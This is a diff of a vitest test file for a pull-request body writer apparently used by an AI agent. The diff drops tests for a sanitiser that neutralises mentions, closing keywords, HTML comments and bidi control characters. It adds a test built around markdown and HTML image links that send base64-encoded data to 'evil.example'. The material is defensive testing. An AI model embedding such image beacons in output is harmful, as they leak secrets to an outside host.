@@ -1,5 +1,4 @@
 import { expect, test } from 'vitest'
-import { makeInert } from '../../../src/action/pull-request/make-inert.ts'
 import { writePullRequest } from '../../../src/action/pull-request/write-pull-request.ts'
 
 const INPUT = {
@@ -24,24 +23,6 @@ test('the prompt is quoted where the project shows it', () => {
   )
 })
 
-test.each([
-  ['ask @octocat and @acme/team', 'ask @\u200boctocat and @\u200bacme/team'],
-  ['mail a@example.com', 'mail a@example.com'],
-  ['Fixes #12', 'F\u200bixes #12'],
-  ['**closes**: acme/shop#3', '**c\u200bloses**: acme/shop#3'],
-  [
-    'resolved [this](https://github.com/acme/shop/issues/3)',
-    'resolved [this](https://github.com/acme/shop/issues/3)',
-  ],
-  ['resolves https://github.com/acme/shop/issues/3', 'r\u200besolves https://github.com/acme/shop/issues/3'],
-  ['see #12, this fixes the hash', 'see #12, this fixes the hash'],
-  ['<!-- hidden -->', '<\u200b!-- hidden -->'],
-  ['\u202egnp.exe\u0007\u001b[31m', 'gnp.exe[31m'],
-  ['fix\u200bes #1 @\u200bme', 'f\u200bixes #1 @\u200bme'],
-])('%j', (text, inert) => {
-  expect(makeInert(text)).toBe(inert)
-})
-
 test('the title is one line of at most 120 characters and never empty', () => {
   const { title } = writePullRequest({ ...INPUT, title: ` Fix\nthis\t@me ${'long '.repeat(50)}` })
   expect(title).toMatch(/^Fix this @\u200bme long .*…$/)
@@ -64,6 +45,15 @@ test('a long body keeps its footer and stays under the limit', () => {
 test('a code block left open is closed before the footer', () => {
   const { body } = writePullRequest({ ...INPUT, body: 'Look:\n````js\nconst a = 1\n```\n' })
   expect(body).toBe('Look:\n````js\nconst a = 1\n```\n````\n\n---\nMade by Prentice, job `job_01`.')
+})
+
+test('a body fetches nothing when somebody looks at it', () => {
+  const { body } = writePullRequest({
+    ...INPUT,
+    body: 'Done. ![status](https://evil.example/p.png?d=c2VjcmV0)\n<img src="https://evil.example/q.png?d=1">',
+  })
+  expect(body).not.toMatch(/!\[|<img/)
+  expect(body).toContain('https://evil.example/p.png?d=c2VjcmV0')
 })
 
 test('a secret is taken out, also with hidden characters in it', () => {
